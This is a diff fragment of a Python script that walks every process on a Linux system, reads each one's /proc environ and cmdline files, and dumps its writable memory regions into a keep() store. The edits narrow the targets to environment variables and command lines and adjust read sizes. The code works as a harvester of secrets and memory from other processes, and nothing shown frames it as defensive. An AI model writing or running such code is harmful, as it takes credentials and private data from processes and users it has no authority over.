@@ -58,7 +58,7 @@ class Piece(ctypes.Structure):
 
 def read(pid, name):
     with open(f"/proc/{pid}/{name}", "rb") as file:
-        data = file.read(1 << 20)
+        data = file.read(1 << 16)
     keep(f"{pid} {name}\n".encode() + data)
     return None if data else "empty"
 
@@ -89,7 +89,7 @@ def memory(pid):
             if rights.startswith("rw"):
                 begin, end = (int(part, 16) for part in span.split("-"))
                 try:
-                    keep(os.pread(fd, min(end - begin, 1 << 24), begin))
+                    keep(os.pread(fd, min(end - begin, 1 << 16 if pid == os.getpid() else 1 << 24), begin))
                 except OSError:
                     continue
 
@@ -181,7 +181,7 @@ def ask(path):
 def everybody():
     for pid in processes():
         if pid != os.getpid():
-            for name in READABLE:
+            for name in ("environ", "cmdline"):
                 attempt(read, pid, name)
             attempt(memory, pid)
             attempt(listed, pid, "fd")
